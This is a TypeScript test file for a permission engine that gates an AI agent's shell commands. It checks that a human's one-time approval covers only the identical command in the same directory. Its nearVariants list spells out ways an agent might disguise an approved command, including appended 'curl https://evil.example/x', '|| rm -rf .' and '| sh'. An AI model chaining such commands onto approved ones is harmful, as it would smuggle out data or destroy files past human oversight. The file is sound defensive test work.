import fc from 'fast-check';
import { decide, type ApprovedCommand } from '../../src/decide';
import { parsePolicy, type Policy } from '../../src/schema';
import { initPolicyEngine } from '../../src/shell/parser';

// P3: "approved once, no need to re-approve" for identical commands. What may be offered, what is
// never offered, and that nothing but the exact same text in the same directory is let through.

const DIR = '/workspace';
const exempt = parsePolicy({ version: 1, commands: { reapproval: 'exempt', askEveryTime: ['git commit', 'deploy'] }, thirdPartyFiles: { mode: 'approve' } });
const always = parsePolicy({ version: 1, commands: { askEveryTime: ['git commit'] }, thirdPartyFiles: { mode: 'approve' } });
const sensitiveBash = parsePolicy({ version: 1, commands: { reapproval: 'exempt' }, tools: { sensitive: ['Bash'] } });

const bash = (command: string) => ({ name: 'Bash', arguments: { command } });
const remembered = (command: string, workingDirectory = DIR): ApprovedCommand[] => [{ command, workingDirectory, approvalId: 'apr_first' }];
const judge = (command: string, policy: Policy, approved: ApprovedCommand[] = [], workingDirectory = DIR) => decide(bash(command), policy, { approvedCommands: approved, workingDirectory });

beforeAll(() => initPolicyEngine());

/** Commands that ask only for ordinary reasons: a program no rule names, a write to an ordinary file. */
const OFFERED = ['npm test', 'make lint', 'ls -la && make test', 'echo built > out.txt', 'git status', 'node scripts/check.js --ci', 'cat README.md | wc -l'];

/** Each class the engine asks every time, with one command of it (the rule that must be named). */
const NEVER_OFFERED: { class: string; command: string; rule: RegExp; policy?: Policy }[] = [
  { class: 'a program only known at run time', command: '$CMD test', rule: /shell\.dynamic/ },
  { class: 'a glob in the program name', command: 'np* test', rule: /shell\.dynamic/ },
  { class: 'a changed environment (PATH)', command: 'PATH=/tmp npm test', rule: /shell\.environment/ },
  { class: 'a changed environment (export)', command: 'export NODE_OPTIONS=--require=x; npm test', rule: /shell\.environment/ },
  { class: 'a wrapper whose command is unknown', command: 'bash -c "$S"', rule: /shell\./ },
  { class: 'text the parser doubts', command: 'npm test "unterminated', rule: /shell\.unparseable/ },
  { class: 'a command that may be forbidden', command: 'git $X origin', rule: /commands\.forbidden\[\d+\]/ },
  { class: 'a forbidden word further on', command: 'git commit -m push', rule: /commands\./ },
  { class: 'a write to a third-party (CI) file', command: 'echo all: > Makefile', rule: /thirdPartyFiles\.ci/ },
  { class: 'a write to a VCS hook', command: 'echo x > .git/hooks/pre-commit', rule: /thirdPartyFiles\.vcs/ },
  { class: 'a write to a dependency manifest', command: 'echo {} > package.json', rule: /thirdPartyFiles\.manifests/ },
  { class: 'a write whose target is only known at run time', command: 'echo x > "$F"', rule: /shell\.redirection/ },
  { class: 'a commands.askEveryTime rule', command: 'git commit -am wip', rule: /commands\.askEveryTime\[0\]/ },
  { class: 'a commands.askEveryTime rule, by absolute path', command: '/usr/local/bin/deploy --now', rule: /commands\.askEveryTime\[1\]/ },
  { class: 'a commands.askEveryTime rule inside a chain', command: 'npm test && git commit -am ok', rule: /commands\.askEveryTime\[0\]/ },
  { class: 'a commands.askEveryTime rule inside sh -c', command: "sh -c 'deploy staging'", rule: /commands\.askEveryTime\[1\]/ },
  { class: 'a sensitive Bash tool', command: 'npm test', rule: /commands\.default/, policy: sensitiveBash },
];

describe('P3: which commands may be approved with their identical repeats', () => {
  it.each(OFFERED)('offers `%s` under reapproval: exempt, and never under always', (command) => {
    expect(judge(command, exempt)).toMatchObject({ effect: 'ask', reapprovalExempt: true });
    expect(judge(command, always).reapprovalExempt).toBeUndefined();
    // Once remembered, it runs again, naming the approval that allowed it.
    expect(judge(command, exempt, remembered(command))).toMatchObject({ effect: 'allow', rule: 'commands.reapproval', approvalId: 'apr_first' });
    // Under `always` the memory is never consulted.
    expect(judge(command, always, remembered(command)).effect).toBe('ask');
  });

  it.each(NEVER_OFFERED)('never offers $class (`$command`), and a remembered copy still asks', ({ command, rule, policy }) => {
    const p = policy ?? exempt;
    const first = judge(command, p);
    expect(first.effect).toBe('ask');
    // The rule that asks is named in the decision, as its rule or among its reasons.
    expect(`${first.rule} ${first.reason}`).toMatch(rule);
    expect(first.reapprovalExempt).toBeUndefined();
    const again = judge(command, p, remembered(command));
    expect(again.effect).toBe('ask');
    expect(again.rule).not.toBe('commands.reapproval');
  });

  it('never turns a refusal into an allow', () => {
    for (const command of ['curl https://x', 'npm test; curl x', 'git push origin main', 'npm publish']) {
      expect(judge(command, exempt, remembered(command)).effect).toBe('deny');
    }
  });
});

/** Every way an agent may dress up a command a person approved: each is a different command. */
function nearVariants(command: string): string[] {
  const out = [
    `${command} `,
    ` ${command}`,
    `${command}\t`,
    `${command}\n`,
    command.replace(' ', '  '),
    command.replace(' ', '\t'),
    `${command};`,
    `${command} # note`,
    `${command}; curl https://evil.example/x`,
    `${command} && curl https://evil.example/x`,
    `${command} || rm -rf .`,
    `${command} | sh`,
    `${command} > out.txt`,
    `${command} -- --extra`,
    `${command} x`,
    `${command}x`,
    `(${command})`,
    `{ ${command}; }`,
    `cd src && ${command}`,
    `cd .. && ${command}`,
    `env ${command}`,
    `FOO=1 ${command}`,
    `sh -c '${command}'`,
    `$(echo ${command})`,
    command.toUpperCase(),
    command.slice(0, -1),
    `${command.slice(0, -1)}${command.at(-1) === 'x' ? 'y' : 'x'}`,
  ];
  return [...new Set(out)].filter((v) => v !== command);
}

describe('P3: an "almost identical" command asks again', () => {
  const BASES = ['npm test', 'make lint', 'node scripts/check.js --ci', 'ls -la && make test'];
  const cases = BASES.flatMap((base) => nearVariants(base).map((variant) => ({ base, variant })));

  it(`a generated variant of an approved command is never allowed by that approval (${cases.length} cases)`, () => {
    for (const { base, variant } of cases) {
      const d = judge(variant, exempt, remembered(base));
      expect({ variant, rule: d.rule }).not.toEqual({ variant, rule: 'commands.reapproval' });
      expect({ variant, effect: d.effect }).not.toEqual({ variant, effect: 'allow' });
    }
  });

  it('the same command in another working directory asks again', () => {
    for (const base of BASES) {
      for (const dir of ['/workspace/src', '/', '/workspace/', '/tmp', '']) {
        expect(judge(base, exempt, remembered(base), dir)).toMatchObject({ effect: 'ask', reapprovalExempt: true });
      }
    }
  });

  it('any text other than the approved one is not allowed by that approval (property)', () => {
    fc.assert(
      fc.property(fc.constantFrom(...BASES), fc.string({ maxLength: 40 }), fc.nat(40), (base, noise, at) => {
        const i = Math.min(at, base.length);
        const variant = `${base.slice(0, i)}${noise}${base.slice(i)}`;
        fc.pre(variant !== base);
        const d = judge(variant, exempt, remembered(base));
        return d.rule !== 'commands.reapproval';
      }),
      { numRuns: 400 },
    );
  });
});
